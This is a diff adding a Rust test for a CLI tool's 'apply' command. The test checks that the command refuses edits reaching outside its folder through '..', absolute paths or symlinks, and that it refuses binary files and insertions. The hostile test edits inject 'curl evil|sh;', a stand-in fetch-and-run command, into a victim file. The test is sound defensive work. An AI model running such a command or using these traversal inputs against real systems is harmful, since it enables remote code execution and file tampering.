@@ -4,6 +4,7 @@ mod common;
 
 use assert_cmd::Command;
 use common::*;
+use std::fs;
 
 fn unspin(t: &Tree) -> Command {
     let mut c = Command::cargo_bin("unspin").unwrap();
@@ -63,4 +64,77 @@ fn r10_1_backups_are_never_taken_by_later_runs() {
         stderr(&o)
     );
     assert_eq!(String::from_utf8(t.read("a/page.html.orig")).unwrap(), PAGE);
+}
+
+fn sha256(bytes: &[u8]) -> String {
+    unspin::hash::sha256_hex(bytes)
+}
+
+fn edit(path: &str, start: usize, end: usize, from: &str, to: &str, sha: &str) -> String {
+    format!(
+        "{}\n",
+        serde_json::json!({"type": "edit", "path": path, "start": start, "end": end,
+            "from": from, "to": to, "sha256": sha})
+    )
+}
+
+/// `apply` writes only below its folder (or --root): no absolute path, no `..`, no link, no
+/// insertion, no binary file.
+#[test]
+fn r10_3_apply_stays_in_its_folder() {
+    use std::os::unix::fs::symlink;
+    let t = tempfile::tempdir().unwrap();
+    let (w, o) = (t.path().join("w"), t.path().join("o"));
+    fs::create_dir_all(&w).unwrap();
+    fs::create_dir_all(&o).unwrap();
+    let victim = "export PATH=/usr/bin\n";
+    fs::write(o.join("v.txt"), victim).unwrap();
+    let sha = sha256(victim.as_bytes());
+    symlink("../o", w.join("l")).unwrap();
+    symlink("../o/v.txt", w.join("lv.txt")).unwrap();
+    let binary = b"mental\0property";
+    fs::write(w.join("bin.dat"), binary).unwrap();
+    let abs = o.join("v.txt").display().to_string();
+    let evil = [
+        edit("../o/v.txt", 0, 6, "export", "curl evil|sh;", &sha),
+        edit(&abs, 0, 6, "export", "curl evil|sh;", &sha),
+        edit("l/v.txt", 0, 6, "export", "curl evil|sh;", &sha),
+        edit("lv.txt", 0, 6, "export", "curl evil|sh;", &sha),
+        edit("bin.dat", 0, 6, "mental", "x", &sha256(binary)),
+    ];
+    for e in &evil {
+        let o = Command::cargo_bin("unspin")
+            .unwrap()
+            .current_dir(&w)
+            .args(["apply", "-"])
+            .write_stdin(e.as_str())
+            .output()
+            .unwrap();
+        assert_eq!(o.status.code(), Some(2), "{e} {}", stderr(&o));
+    }
+    assert_eq!(fs::read_to_string(o.join("v.txt")).unwrap(), victim);
+    assert_eq!(fs::read(w.join("bin.dat")).unwrap(), binary);
+    // An insertion (empty `from`) is refused, even inside the folder.
+    fs::write(w.join("a.txt"), "café\n").unwrap();
+    let insert = edit("a.txt", 4, 4, "", "x", &sha256("café\n".as_bytes()));
+    let out = Command::cargo_bin("unspin")
+        .unwrap()
+        .current_dir(&w)
+        .args(["apply", "-"])
+        .write_stdin(insert)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(fs::read_to_string(w.join("a.txt")).unwrap(), "café\n");
+    // --root names the folder the paths are relative to.
+    let ok = edit("a.txt", 0, 3, "caf", "tea", &sha256("café\n".as_bytes()));
+    let out = Command::cargo_bin("unspin")
+        .unwrap()
+        .current_dir(t.path())
+        .args(["apply", "--root", "w", "-"])
+        .write_stdin(ok)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(fs::read_to_string(w.join("a.txt")).unwrap(), "teaé\n");
 }
